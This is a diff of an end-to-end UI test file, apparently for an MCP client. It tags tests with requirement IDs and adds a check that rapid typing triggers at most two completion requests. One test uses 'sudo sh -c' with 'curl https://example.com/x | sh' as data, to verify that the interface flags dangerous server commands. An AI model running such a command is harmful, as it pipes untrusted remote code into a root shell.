@@ -51,7 +51,7 @@ describe.skipIf(!canOpen)('what people see and decide', { timeout: 60_000 }, () 
     return count
   }
 
-  test('a tool is shown with what would be sent, nothing goes before Run, and what was shown went [TUI-01, TUI-03]', async () => {
+  test('a tool is shown with what would be sent, nothing goes before Run, and what was shown went [TUI-01, TUI-03, ARCH-03, TOOL-02, TOOL-05, TOOL-24, TOOL-25, TRUST-01, TRUST-02, TRUST-09, TRUST-10]', async () => {
     await go(page, 'changing', 'tools', 'link')
     await page.getByRole('heading', { name: 'link', exact: true }).waitFor()
     await page.getByText('The link tool').first().waitFor()
@@ -76,7 +76,7 @@ describe.skipIf(!canOpen)('what people see and decide', { timeout: 60_000 }, () 
     await page.getByRole('button', { name: 'Unsubscribe' }).waitFor()
   })
 
-  test('resources are a list or a tree, found by a word, and shown when picked [RUI-01]', async () => {
+  test('resources are a list or a tree, found by a word, and shown when picked [RUI-01, RES-24]', async () => {
     await go(page, 'changing', 'resources')
     const list = page.getByRole('listbox', { name: 'Resources' })
     await list.getByRole('option').nth(1).waitFor()
@@ -90,7 +90,7 @@ describe.skipIf(!canOpen)('what people see and decide', { timeout: 60_000 }, () 
     await page.getByRole('textbox', { name: 'Search resources' }).fill('')
   })
 
-  test('something is seen to run, then its result; what a tool reports is told from what the protocol refuses [TUI-09, TUI-10]', async () => {
+  test('something is seen to run, then its result; what a tool reports is told from what the protocol refuses [TUI-09, TUI-10, TOOL-04]', async () => {
     await call(page, 'everything', 'trigger-long-running-operation', { duration: '1', steps: '2' })
     await resultIn(page).getByText('Running', { exact: true }).waitFor()
     await resultIn(page).getByText('Answered', { exact: true }).waitFor()
@@ -105,7 +105,7 @@ describe.skipIf(!canOpen)('what people see and decide', { timeout: 60_000 }, () 
     await page.getByText('invalid_params').first().waitFor()
   })
 
-  test('a prompt is got when somebody asks for it, and the list follows the server [PUI-01, PUI-09]', async () => {
+  test('a prompt is got when somebody asks for it, and the list follows the server [PUI-01, PUI-09, PROMPT-17]', async () => {
     await go(page, 'changing', 'prompts', 'first')
     await page.getByRole('heading', { name: 'first' }).waitFor()
     expect(await countRows('server:changing method:prompts/get')).toBe(0)
@@ -118,7 +118,26 @@ describe.skipIf(!canOpen)('what people see and decide', { timeout: 60_000 }, () 
     await page.getByRole('option', { name: /^grown-1/ }).waitFor()
   })
 
-  test('an answer is looked over as JSON before it leaves [EUI-04]', async () => {
+  test('ten keystrokes at once ask for completion twice at most [COMP-13]', async () => {
+    await go(page, 'everything', 'prompts', 'completable-prompt')
+    const before = await countRows('server:everything method:completion/complete')
+    const input = page.getByLabel(/department/i).first()
+    await input.click()
+    await input.evaluate((element) => {
+      const descriptor = Object.getOwnPropertyDescriptor(HTMLInputElement.prototype, 'value')
+      for (const text of 'x,xy,x,,M,Mx,M,En,Engi,E'.split(',')) {
+        descriptor?.set?.call(element, text) // as typing does, past what the page keeps of the value
+        element.dispatchEvent(new Event('input', { bubbles: true }))
+      }
+    })
+    await page.getByRole('option', { name: 'Engineering' }).waitFor()
+
+    const asked = (await countRows('server:everything method:completion/complete')) - before
+    expect(asked).toBeGreaterThan(0)
+    expect(asked).toBeLessThanOrEqual(2)
+  })
+
+  test('an answer is looked over as JSON before it leaves [EUI-04, ELIC-04]', async () => {
     await call(page, 'everything', 'trigger-elicitation-request')
     await openQuestion(page, 'Input')
     await field(page, /^name|^Full Name|^String/i).fill('Grace')
@@ -158,7 +177,7 @@ describe.skipIf(!canOpen)('what people see and decide', { timeout: 60_000 }, () 
     await page.getByText('No rules').waitFor()
   })
 
-  test('roots are said to protect nothing, and those that are gone are marked [ROOTUI-03, ROOTUI-04]', async () => {
+  test('roots are said to protect nothing, and those that are gone are marked [ROOTUI-03, ROOTUI-04, ROOT-11, ROOT-16, HDEC-03]', async () => {
     await go(page, 'everything', 'overview')
     await page.getByRole('button', { name: 'Settings', exact: true }).click()
     const dialog = page.getByRole('dialog')
@@ -171,7 +190,7 @@ describe.skipIf(!canOpen)('what people see and decide', { timeout: 60_000 }, () 
     await dialog.waitFor({ state: 'detached' })
   })
 
-  test('a command is shown in full, as something that runs, with what is dangerous in it, and can be left [SECX-08, SECX-09, SECX-14]', async () => {
+  test('a command is shown in full, as something that runs, with what is dangerous in it, and can be left [SECX-08, SECX-09, SECX-14, TRUST-07]', async () => {
     const words = ['sudo', 'sh', '-c', 'curl https://example.com/x | sh', '/root', 'x'.repeat(500)]
     await page.getByRole('button', { name: 'Add a server' }).click()
     await page
